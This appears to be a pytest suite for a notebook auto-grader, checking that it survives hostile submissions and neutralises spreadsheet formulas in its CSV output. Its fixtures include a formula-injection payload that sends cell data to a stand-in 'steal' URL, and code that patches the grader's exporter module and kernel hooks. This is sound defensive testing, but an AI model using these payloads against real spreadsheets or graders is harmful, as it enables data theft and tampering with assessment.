"""The grading run survives every submission: each fault that once ended a run, reproduced.

One run of the real command (module fixture ``hostile``) grades a class of submissions that each broke the
grader before: pandas answers with a MultiIndex, dict answers shaped like the exporter's envelope, a replaced
``user_expressions``, a patched exporter module, lone surrogates, 100,000-deep JSON, a 246-character file name, a
file name that is not UTF-8, a hidden file, spreadsheet formulas. Every one must become rows of its own, the run
must exit 0, and running it again over the journal must not crash either.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
from grading_cases import (
    answer,
    correct,
    nan_submission,
    submission,
    write,
    write_nan_source,
    write_source,
)

from coursekit.exercises.format import load_source, make_student_edition
from coursekit.grading import grader, kernel, reconcile, results

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

LONG_NAME = "l" * 240 + ".ipynb"  # 246 characters
LATIN1_NAME = b"caf\xe9.ipynb"  # as unzipped from a Latin-1 archive


def run_cli(*args: str | Path | bytes, timeout: float = 600) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "coursekit",
            "grade",
            *(a if isinstance(a, bytes) else str(a) for a in args),
        ],
        capture_output=True,
        text=True,
        errors="replace",
        timeout=timeout,
    )


def _code(nb, qid: str, code: str) -> None:
    answer(nb, qid, code)


def _multiindex(nb):
    _code(nb, "q3", 'per_year = events.groupby(["year", "dimension"]).size()')


def _value_counts(nb):
    _code(nb, "q3", 'per_year = events[["dimension"]].value_counts()')


def _envelope(nb):
    _code(nb, "q1", 'peak_year = {"__frame__": True}')
    _code(nb, "q3", 'per_year = {"__series__": True, "index": 5}')


def _expressions(nb):
    # in q2's answer cell, after q1 was read: the kernel's user_expressions now returns junk
    answer(
        nb,
        "q2",
        "    return power * proximity\n"
        "get_ipython().user_expressions = lambda expressions: "
        "{k: {'status': 'ok', 'data': ['not', 'a', 'dict']} for k in expressions}",
    )


def _patched_module(nb):
    _code(
        nb,
        "q1",
        "import sys, types\nfake = types.ModuleType('fake')\n"
        'fake.dump = lambda value: \'{"v": {"df": {}}}\'\n'
        'fake.call = lambda func, args: \'{"v": {"ser": {"index": {"kind": "multi"}}}}\'\n'
        "sys.modules['coursekit.grading.export'] = fake\npeak_year = 2019",
    )


def _formula_written(nb):
    answer(nb, "q4", '=HYPERLINK("http://example.org/steal?"&A1, "click")')


EDITS = {
    "multiindex": _multiindex,
    "value_counts": _value_counts,
    "envelope": _envelope,
    "expressions": _expressions,
    "patched_module": _patched_module,
    "=formula": _formula_written,
}


def _surrogate_notebook(source: Path) -> str:
    """A correct notebook whose q1 answer cell and written answer hold a lone surrogate (as JSON allows)."""
    nb = correct(source)
    answer(nb, "q1", "peak_year = 2019  # SURROGATE")
    answer(nb, "q4", "An alliance SURROGATE of convenience, in the broad sense of the word.")
    return json.dumps(nb).replace("SURROGATE", "\\ud800")


def _deep_notebook() -> str:
    depth = 100_000
    return (
        '{"nbformat": 4, "nbformat_minor": 5, "metadata": {"x": '
        + "[" * depth
        + "]" * depth
        + '}, "cells": []}'
    )


@dataclass
class Hostile:
    proc: subprocess.CompletedProcess[str]
    rerun: subprocess.CompletedProcess[str]
    source: Path
    subs: Path
    out: Path
    rows: dict[str, dict[str, dict[str, str]]]

    def status(self, sid: str) -> dict[str, str]:
        return {q: r["status"] for q, r in self.rows[sid].items()}


def _read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    base = tmp_path_factory.mktemp("hostile")
    source = write_source(base)
    subs = base / "submissions"
    subs.mkdir()
    write(correct(source), subs / "correct.ipynb")
    for name, edit in EDITS.items():
        write(submission(source, edit), subs / f"{name}.ipynb")
    (subs / "surrogate.ipynb").write_text(_surrogate_notebook(source), encoding="utf-8")
    (subs / "deep.ipynb").write_text(_deep_notebook(), encoding="utf-8")
    write(correct(source), subs / LONG_NAME)
    write(correct(source), Path(os.fsdecode(os.fsencode(subs) + b"/" + LATIN1_NAME)))
    write(correct(source), subs / ".late.ipynb")
    out = base / "out"
    args = (source, subs, "--out", out, "--jobs", "2", "--cell-timeout", "20", "--timeout", "120")
    proc = run_cli(*args)
    # the journal now holds every result: a second run must resume, not crash
    with open(out / "journal.jsonl", "a", encoding="utf-8") as fh:
        fh.write(json.dumps({"run_key": "x", "result": {"submission": 5}}) + "\n")
        fh.write('{"run_key": null, "result": [1, 2]}\n{"cut short\n')
    rerun = run_cli(*args)
    rows: dict[str, dict[str, dict[str, str]]] = {}
    if (out / "gradebook.csv").exists():
        for row in _read_csv(out / "gradebook.csv"):
            rows.setdefault(row["submission"], {})[row["question"]] = row
    return Hostile(proc, rerun, source, subs, out, rows)


def _sid(name: str | bytes) -> str:
    return grader.submission_id(os.fsdecode(name))[0]


def test_the_run_survives_every_submission_and_exits_zero(hostile):
    assert hostile.proc.returncode == 0, hostile.proc.stderr[-3000:]
    assert "Traceback" not in hostile.proc.stderr
    expected = {
        "correct",
        *(f"'{n}" if n.startswith("=") else n for n in EDITS),
        "surrogate",
        "deep",
    }
    expected |= {_sid(LONG_NAME), _sid(LATIN1_NAME), _sid(".late.ipynb")}
    assert set(hostile.rows) == expected
    for sid, rows in hostile.rows.items():
        assert set(rows) == {"q1", "q2", "q3", "q4"}, sid


def test_a_rerun_over_the_journal_resumes_without_crashing(hostile):
    assert hostile.rerun.returncode == 0, hostile.rerun.stderr[-3000:]
    assert "resuming: 12 submission(s) already graded" in hostile.rerun.stderr
    assert "Graded 0 submission(s) (12 resumed)" in hostile.rerun.stdout


def test_multiindex_answers_are_judged_not_crashed(hostile):
    for sid in ("multiindex", "value_counts"):
        st = hostile.status(sid)
        assert st["q1"] == "passed" and st["q2"] == "passed", st
        assert st["q3"] == "failed", hostile.rows[sid]["q3"]
        assert "Answer with a DataFrame" in hostile.rows[sid]["q3"]["message"]


def test_dicts_shaped_like_the_envelope_are_just_dicts(hostile):
    st = hostile.status("envelope")
    assert st == {"q1": "failed", "q2": "passed", "q3": "failed", "q4": "manual"}, hostile.rows[
        "envelope"
    ]


def test_a_replaced_user_expressions_costs_only_that_submission(hostile):
    st = hostile.status("expressions")
    assert st["q1"] == "passed"
    assert st["q2"] in ("error", "failed") and st["q3"] == "error", hostile.rows["expressions"]
    assert "could not be" in hostile.rows["expressions"]["q3"]["message"]


def test_a_patched_exporter_module_is_an_error_of_that_submission(hostile):
    st = hostile.status("patched_module")
    assert st["q1"] == "error" and st["q3"] == "error", hostile.rows["patched_module"]
    assert "could not be read" in hostile.rows["patched_module"]["q1"]["message"]


def test_lone_surrogates_are_replaced_and_graded(hostile):
    assert hostile.status("surrogate") == {
        "q1": "passed",
        "q2": "passed",
        "q3": "passed",
        "q4": "manual",
    }
    manual = {r["submission"]: r for r in _read_csv(hostile.out / "manual.csv")}
    assert "\ufffd" in manual["surrogate"]["answer"]


def test_json_nested_100000_deep_is_an_error_saying_why(hostile):
    rows = hostile.rows["deep"]
    assert {r["status"] for r in rows.values()} == {"error"}
    assert "nested too deeply" in rows["q1"]["message"]


@pytest.mark.parametrize("name", [LONG_NAME, LATIN1_NAME, ".late.ipynb"])
def test_files_that_cannot_be_named_safely_are_graded_under_a_recorded_id(hostile, name):
    sid = _sid(name)
    assert sid != os.fsdecode(name)[: -len(".ipynb")]
    assert hostile.status(sid) == {"q1": "passed", "q2": "passed", "q3": "passed", "q4": "manual"}
    assert (hostile.out / "feedback" / f"{sid}.html").is_file()
    mapping = {r["submission"]: r["file"] for r in _read_csv(hostile.out / "renamed.csv")}
    assert mapping[sid] == os.fsencode(name).decode("utf-8", "backslashreplace")
    summary = {r["submission"]: r for r in _read_csv(hostile.out / "summary.csv")}
    assert "cannot serve as an id" in summary[sid]["notes"]


def test_spreadsheet_formulas_are_neutralised_in_every_csv(hostile):
    for name in ("gradebook.csv", "summary.csv", "manual.csv"):
        for row in _read_csv(hostile.out / name):
            for value in row.values():
                assert not value.startswith(results.FORMULA_STARTS), (name, row)
    manual = {r["submission"]: r for r in _read_csv(hostile.out / "manual.csv")}
    assert manual["'=formula"]["answer"].startswith("'=HYPERLINK(")


def test_reading_a_submission_never_raises_on_deep_or_odd_json():
    with pytest.raises(ValueError, match="nested too deeply"):
        grader.read_submission(_deep_notebook().encode())
    nb = grader.read_submission(b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": '
                                b'[{"cell_type": "code", "source": "x = 1  # \\udc00", "metadata": {}, '
                                b'"outputs": [], "execution_count": null}]}')  # fmt: skip
    assert nb.cells[0].source == "x = 1  # \ufffd"


def test_submission_ids():
    assert grader.submission_id("alice.ipynb") == ("alice", False)
    assert grader.submission_id("Zoë Ngaïkoumon.ipynb") == ("Zoë Ngaïkoumon", False)
    for odd in (LONG_NAME, os.fsdecode(LATIN1_NAME), ".alice.ipynb", "a\nb.ipynb", "a\\b.ipynb"):
        sid, renamed = grader.submission_id(odd)
        assert renamed and len(sid.encode()) <= 80 and not sid.startswith(".")
        sid.encode("utf-8")
    # two names that clean to the same text still get different ids
    assert grader.submission_id(".x.ipynb")[0] != grader.submission_id("..x.ipynb")[0]


def test_csv_neutralisation():
    assert [results.neutralise(v) for v in ["=1+2", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "-1.5", "ok", 3]] == [
        "'=1+2", "+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "-1.5", "ok", 3,
    ]  # fmt: skip


def test_the_feedback_of_a_long_name_fits_in_a_file_name(tmp_path):
    sid = (
        "x" * 250
    )  # a legal file name, but its old temporary name ("." + name + ".html.<pid>.tmp") was not
    r = results.SubmissionResult(sid, "", "", [], [], 0.0)
    path = results.write_feedback(r, "T", "s", tmp_path)
    assert path.is_file() and not [p for p in tmp_path.iterdir() if p.name.startswith(".tmp")]


def test_journal_lines_of_any_shape_are_skipped(tmp_path):
    path = tmp_path / "journal.jsonl"
    path.write_text(
        '{"run_key": "k", "result": {"submission": 5}}\n{"run_key": "k", "result": [1]}\n7\n"x"\n'
        '{"run_key": "k", "result": {"submission": "a", "questions": "oops"}}\n',
        encoding="utf-8",
    )
    assert results.Journal(path, "k").load() == {}


# ---- NaN and infinities are never correct ----------------------------------------------------------------


@pytest.fixture(scope="module")
def nan_run(tmp_path_factory):
    base = tmp_path_factory.mktemp("nan")
    source = write_nan_source(base)
    subs = base / "subs"
    subs.mkdir()
    values = {
        "right": '{"a": 0.25, "b": 0.75}',
        "nan": '{"a": float("nan"), "b": float("nan")}',
        "inf": '{"a": float("inf"), "b": 0.75}',
        "numpy_nan": '{"a": __import__("numpy").nan, "b": 0.75}',
    }
    for name, value in values.items():
        write(nan_submission(source, value), subs / f"{name}.ipynb")
    out = base / "out"
    proc = run_cli(source, subs, "--out", out, "--jobs", "2", "--cell-timeout", "20")
    return proc, {
        r["submission"]: r for r in _read_csv(out / "gradebook.csv")
    } if proc.returncode == 0 else {}


def test_nan_and_infinity_never_pass_a_hidden_test(nan_run):
    proc, rows = nan_run
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert rows["right"]["status"] == "passed"
    for sid in ("nan", "inf", "numpy_nan"):
        assert rows[sid]["status"] == "failed", rows[sid]
        assert rows[sid]["points"] == "0"
        assert "not a number a test can check" in rows[sid]["message"]


def test_non_finite_finds_nan_and_infinity_in_any_container():
    import numpy as np
    import pandas as pd

    assert grader.non_finite(float("nan")) == "NaN"
    assert grader.non_finite({"a": [1, (2, float("-inf"))]}) == "-inf"
    assert grader.non_finite(pd.Series([1.0, np.inf])) == "inf"
    assert grader.non_finite(pd.DataFrame({"a": [1, 2], "b": ["x", float("nan")]})) == "NaN"
    assert grader.non_finite(pd.DataFrame({"a": [1.5, 2.0]}, index=[float("nan"), 1.0])) == ""
    assert grader.non_finite({"a": 1.0, "b": "nan", "c": None, "d": True}) == ""


# ---- isolation and its warning ---------------------------------------------------------------------------


def test_grading_without_isolation_prints_a_warning(tmp_path):
    source = write_source(tmp_path)
    subs = tmp_path / "subs"
    subs.mkdir()
    write(correct(source), subs / "a.ipynb")
    proc = run_cli(source, subs, "--out", tmp_path / "out", "--sandbox", "none", "--jobs", "1")
    assert proc.returncode == 0, proc.stderr
    assert "WITHOUT isolation" in proc.stderr and "trusted" in proc.stderr
    if kernel.bwrap_path():
        proc = run_cli(
            source, subs, "--out", tmp_path / "out2", "--sandbox", "bwrap", "--jobs", "1"
        )
        assert proc.returncode == 0 and "WITHOUT isolation" not in proc.stderr


def test_the_comparison_helpers_never_call_nan_or_infinity_close():
    from coursekit.exercises import checks
    from coursekit.grading.spec import close

    assert close(0.251, 0.25, 0.005) and close(1, 1.0, 0)
    for bad in (float("nan"), float("inf"), float("-inf"), True, "0.25", None, [0.25]):
        assert not close(bad, 0.25, 0.005), bad

    def same(expected, actual, **options):
        return checks._same_scalar(
            checks.encode_value(expected), checks.encode_value(actual), options
        )

    for options in ({}, {"tolerance": 0.01}):
        assert same(0.25, 0.25, **options)
        assert not same(0.25, float("nan"), **options)
        assert not same(0.25, float("inf"), **options)
        assert not same(1e308, float("inf"), **options)
        assert same(float("inf"), float("inf"), **options)
        assert not same(float("inf"), float("-inf"), **options)


# ---- a huge untagged answer cell is cheap, and the submission's time covers all its work --------------------


def _line_events(released, nb) -> int:
    count = [0]

    def tracer(frame, event, arg):
        count[0] += 1
        return tracer

    sys.settrace(tracer)
    try:
        reconcile.reconcile(released, nb)
    finally:
        sys.settrace(None)
    return count[0]


def test_lining_up_a_huge_untagged_answer_cell_costs_little_per_line(tmp_path):
    source = write_source(tmp_path)
    exercise = load_source(source)
    released = reconcile.index_release(exercise, make_student_edition(exercise))

    def padded(lines: int):
        nb = correct(source)
        cell = next(c for c in nb.cells if c.metadata.get("coursekit", {}).get("question") == "q1"
                    and "solution" in c.metadata.get("tags", []))  # fmt: skip
        cell.metadata = {}  # tags stripped: the cell is found by comparing contents
        cell.source += "\n" + "\n".join(
            f"x{i} = {i}  # padding padding padding" for i in range(lines)
        )
        return nb

    small, large = _line_events(released, padded(250)), _line_events(released, padded(1000))
    # Python steps per added line of the cell: about 1,700 when the whole cell was compared character by
    # character with the released ones (10 s of CPU per MB), about 10 now
    assert (large - small) / 750 < 100


def test_the_submission_timeout_covers_lining_up_the_notebook(tmp_path, monkeypatch):
    source = write_source(tmp_path)
    options = grader.Options(limits=kernel.Limits(timeout=0.2), sandbox="none")
    ctx = grader.prepare(source, options)
    real = grader.reconcile

    def slow(released, nb):
        time.sleep(0.4)
        return real(released, nb)

    monkeypatch.setattr(grader, "reconcile", slow)
    try:
        result = grader.grade_notebook(correct(source), "slow", ctx)
    finally:
        grader.cleanup(ctx)
    assert {q.status for q in result.questions} == {"timeout"}
    assert ctx.counter[0] == 0  # no kernel was started for it


def test_a_cleaned_id_never_collides_with_another_files_name(tmp_path):
    source = write_source(tmp_path)
    subs = tmp_path / "subs"
    subs.mkdir()
    cleaned = _sid(".late.ipynb")
    for name in (".late.ipynb", f"{cleaned}.ipynb"):
        write(correct(source), subs / name)
    found = dict(grader.collect_submissions([subs], source))
    assert len(found) == 2
    assert found[cleaned].name == f"{cleaned}.ipynb"  # the file named so keeps its own name as id


def test_a_file_too_large_for_a_notebook_is_reported_without_reading_it(tmp_path):
    source = write_source(tmp_path)
    big = tmp_path / "big.ipynb"
    with open(big, "wb") as fh:  # sparse: no disk space used
        fh.truncate(grader.MAX_SUBMISSION_BYTES + 1)
    ctx = grader.prepare(source, grader.Options(sandbox="none"))
    try:
        result = grader.grade_file(big, "big", ctx)
    finally:
        grader.cleanup(ctx)
    assert {q.status for q in result.questions} == {"error"}
    assert "Clear Outputs" in result.questions[0].message


def test_reports_hold_any_text_a_kernel_sends(tmp_path):
    import xml.etree.ElementTree as ET

    text = "raised ValueError: \x00\x1b[31m \ud800 =cmd"
    rows = [results.QuestionResult("q1", 0.0, 2, "error", text, [text])]
    r = results.SubmissionResult("s", "", "", rows, [text], 0.0)
    results.write_junit([r], tmp_path / "junit.xml", "set")
    ET.parse(tmp_path / "junit.xml")  # well-formed XML
    results.write_gradebook([r], tmp_path / "gradebook.csv")
    results.write_feedback(r, "T", "set", tmp_path / "feedback")
    results.Journal(tmp_path / "journal.jsonl", "k").append(r)
    assert (
        results.Journal(tmp_path / "journal.jsonl", "k").load()["s"].questions[0].status == "error"
    )
